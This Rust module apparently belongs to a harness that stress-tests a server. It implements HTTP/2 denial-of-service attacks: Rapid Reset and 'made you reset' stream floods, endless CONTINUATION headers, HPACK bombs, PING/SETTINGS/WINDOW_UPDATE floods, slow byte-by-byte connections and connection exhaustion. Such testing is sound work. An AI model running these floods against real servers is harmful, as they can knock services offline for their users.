//! Attacks by frames that HTTP/2 allows, or nearly.

use std::time::Duration;

use tokio::{
    net::TcpStream,
    task::JoinSet,
    time::{interval, sleep},
};

use super::{
    flood::Flood,
    raw::{
        CHAT, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET, Raw,
        SETTINGS, WINDOW, bomb, huge,
    },
    target::{Target, tell},
};
use crate::harness::{
    PREFACE, frame,
    http2::{field, request},
};

/// `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn opened_and_cancelled(raw: &mut Raw, streams: usize) -> Vec<u8> {
    let one = |raw: &mut Raw| {
        let (stream, open) = raw.open(CHAT, &[]);
        [open, frame(RESET, 0, stream, &CANCEL)].concat()
    };
    (0..streams).flat_map(|_| one(raw)).collect()
}

/// Twenty-five streams opened and cancelled in one write, now and then: what a client library does
/// whose application gives up many calls at once.
pub(super) async fn bursts_of_resets(target: Target) {
    let next = |raw: &mut Raw| opened_and_cancelled(raw, 25);
    Flood { connections: 1, next, pause: Duration::from_millis(100) }.run(target).await;
}

/// The same as fast as it goes.
pub(super) async fn rapid_reset(target: Target) {
    Flood::of(|raw| opened_and_cancelled(raw, 100)).run(target).await;
}

/// Sixty-four streams, each with something behind its opening that makes the server reset it.
fn made_to_reset(raw: &mut Raw, behind: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let one = |raw: &mut Raw| {
        let (stream, open) = raw.open(CHAT, &[]);
        [open, behind(stream)].concat()
    };
    (0..64).flat_map(|_| one(raw)).collect()
}

/// A window that grows by nothing.
pub(super) async fn made_you_reset_by_no_window(target: Target) {
    let next = |raw: &mut Raw| made_to_reset(raw, |stream| frame(WINDOW, 0, stream, &[0; 4]));
    Flood::of(next).run(target).await;
}

/// A window that grows beyond all bounds.
pub(super) async fn made_you_reset_by_too_much_window(target: Target) {
    let next = |raw: &mut Raw| {
        let most = i32::MAX.to_be_bytes();
        made_to_reset(raw, |stream| frame(WINDOW, 0, stream, &most))
    };
    Flood::of(next).run(target).await;
}

/// Data behind the end of the stream.
pub(super) async fn made_you_reset_by_late_data(target: Target) {
    let next = |raw: &mut Raw| {
        made_to_reset(raw, |stream| {
            [frame(DATA, END_STREAM, stream, &[0; 5]), frame(DATA, 0, stream, &[0; 5])].concat()
        })
    };
    Flood::of(next).run(target).await;
}

/// Headers behind the end of the stream.
pub(super) async fn made_you_reset_by_late_headers(target: Target) {
    let next = |raw: &mut Raw| {
        made_to_reset(raw, |stream| {
            let late = field("late", "yes");
            let late = frame(HEADERS, END_HEADERS | END_STREAM, stream, &late);
            [frame(DATA, END_STREAM, stream, &[0; 5]), late].concat()
        })
    };
    Flood::of(next).run(target).await;
}

/// A priority of the wrong length.
pub(super) async fn made_you_reset_by_priority(target: Target) {
    let next = |raw: &mut Raw| made_to_reset(raw, |stream| frame(PRIORITY, 0, stream, &[0; 4]));
    Flood::of(next).run(target).await;
}

/// More data than the headers promised.
pub(super) async fn made_you_reset_by_length(target: Target) {
    let next = |raw: &mut Raw| {
        let one = |raw: &mut Raw| {
            let (stream, open) = raw.open(CHAT, &[("content-length", "1")]);
            [open, frame(DATA, 0, stream, &[0; 9])].concat()
        };
        (0..64).flat_map(|_| one(raw)).collect()
    };
    Flood::of(next).run(target).await;
}

/// Data on streams that the server has refused.
pub(super) async fn late_data(target: Target) {
    let next = |raw: &mut Raw| {
        let mut bytes = vec![];
        for _ in 0..4 {
            let (stream, open) = raw.open(CHAT, &[("chat-room", "no room")]);
            bytes.extend(open);
            bytes.extend(frame(DATA, 0, stream, &[0; 5]).repeat(20));
        }
        bytes
    };
    Flood { connections: 1, next, pause: Duration::from_millis(2) }.run(target).await;
}

/// Headers that never end.
pub(super) async fn continuations(target: Target) {
    let next = |raw: &mut Raw| {
        if raw.streams == 0 {
            let stream = raw.stream();
            return frame(HEADERS, 0, stream, &request(CHAT, &[]));
        }
        frame(CONTINUATION, 0, 1, &field("x", "y")).repeat(500)
    };
    Flood::of(next).run(target).await;
}

/// Headers that end, and are too large.
pub(super) async fn huge_headers(target: Target) {
    let next = |raw: &mut Raw| {
        let stream = raw.stream();
        let block = huge(60_000);
        let mut parts = block.chunks(16_000);
        let mut bytes = frame(HEADERS, END_STREAM, stream, parts.next().expect("some"));
        for part in parts {
            bytes.extend(frame(CONTINUATION, 0, stream, part));
        }
        bytes.extend(frame(CONTINUATION, END_HEADERS, stream, &[]));
        bytes
    };
    Flood::of(next).run(target).await;
}

/// Headers whose table is made large and small again and again.
pub(super) async fn hpack_table_sizes(target: Target) {
    let next = |raw: &mut Raw| {
        let one = |raw: &mut Raw| {
            let stream = raw.stream();
            // To nothing, and to 4,096 bytes.
            let block = [&[0x20, 0x3f, 0xe1, 0x1f], &request(CHAT, &[])[..]].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        };
        (0..64).flat_map(|_| one(raw)).collect()
    };
    Flood::of(next).run(target).await;
}

/// Headers of a few bytes that are megabytes.
pub(super) async fn hpack_bomb(target: Target) {
    let next = |raw: &mut Raw| {
        let stream = raw.stream();
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb())
    };
    Flood::of(next).run(target).await;
}

/// Pings.
pub(super) async fn pings(target: Target) {
    Flood::of(|_| frame(PING, 0, 0, &[7; 8]).repeat(1_000)).run(target).await;
}

/// Settings that change nothing, each of which has to be acknowledged.
pub(super) async fn settings(target: Target) {
    Flood::of(|_| frame(SETTINGS, 0, 0, &[]).repeat(1_000)).run(target).await;
}

/// Windows that grow byte by byte.
pub(super) async fn window_updates(target: Target) {
    Flood::of(|_| frame(WINDOW, 0, 0, &[0, 0, 0, 1]).repeat(1_000)).run(target).await;
}

/// Priorities of streams that nobody opened.
pub(super) async fn priorities(target: Target) {
    let next = |raw: &mut Raw| {
        let one = |raw: &mut Raw| frame(PRIORITY, 0, raw.stream(), &[0, 0, 0, 0, 16]);
        (0..1_000).flat_map(|_| one(raw)).collect()
    };
    Flood::of(next).run(target).await;
}

/// Data without any.
pub(super) async fn empty_data(target: Target) {
    let next = |raw: &mut Raw| {
        if raw.streams == 0 {
            return raw.open(CHAT, &[]).1;
        }
        frame(DATA, 0, 1, &[]).repeat(1_000)
    };
    Flood::of(next).run(target).await;
}

/// Connections that say nothing.
pub(super) async fn half_open(target: Target) {
    hold_connections(target, target.some(5_000)).await;
}

/// The same, where the server has descriptors for a few only.
pub(super) async fn more_connections_than_descriptors(target: Target) {
    hold_connections(target, 1_000).await;
}

async fn hold_connections(target: Target, count: usize) {
    let mut open = vec![];
    for _ in 0..count {
        match target.until_over(TcpStream::connect(target.addr)).await {
            Some(Ok(stream)) => open.push(stream),
            _ => break,
        }
    }
    tell(&format!("{} connections", open.len()));
    target.hold().await;
}

/// Connections that write these bytes one by one.
async fn trickle(target: Target, connections: usize, before: Vec<u8>, bytes: Vec<u8>) {
    let mut trickling = JoinSet::new();
    for _ in 0..target.some(connections) {
        let (before, bytes) = (before.clone(), bytes.clone());
        trickling.spawn(async move {
            let Some(Ok(mut raw)) = target.until_over(Raw::silent(target)).await else { return };
            if raw.write(&before).await.is_err() {
                return;
            }
            let mut pace = interval(Duration::from_millis(100));
            for byte in bytes.into_iter().cycle() {
                pace.tick().await;
                if target.is_over() || raw.write(&[byte]).await.is_err() {
                    return;
                }
            }
        });
    }
    trickling.join_all().await;
}

/// Connections that greet byte by byte.
pub(super) async fn slow_handshakes(target: Target) {
    trickle(target, 1_000, vec![], PREFACE.to_vec()).await;
}

/// Connections whose first headers come byte by byte.
pub(super) async fn slow_headers(target: Target) {
    let before =
        [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(HEADERS, 0, 1, &request(CHAT, &[]))].concat();
    trickle(target, 1_000, before, frame(CONTINUATION, 0, 1, &field("x", "y"))).await;
}

/// Connections that only ping.
pub(super) async fn pings_alone(target: Target) {
    let before = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    trickle(target, 1_000, before, frame(PING, 0, 0, &[7; 8])).await;
}

/// Connections that come and go.
pub(super) async fn connection_churn(target: Target) {
    let mut churns = JoinSet::new();
    for _ in 0..8 {
        churns.spawn(async move {
            let mut count = 0;
            while !target.is_over() {
                match Raw::connect(target).await {
                    Ok(_) => count += 1,
                    // No port is left for a moment.
                    Err(_) => sleep(Duration::from_millis(50)).await,
                }
            }
            count
        });
    }
    let count: usize = churns.join_all().await.into_iter().sum();
    tell(&format!("{count} connections"));
}
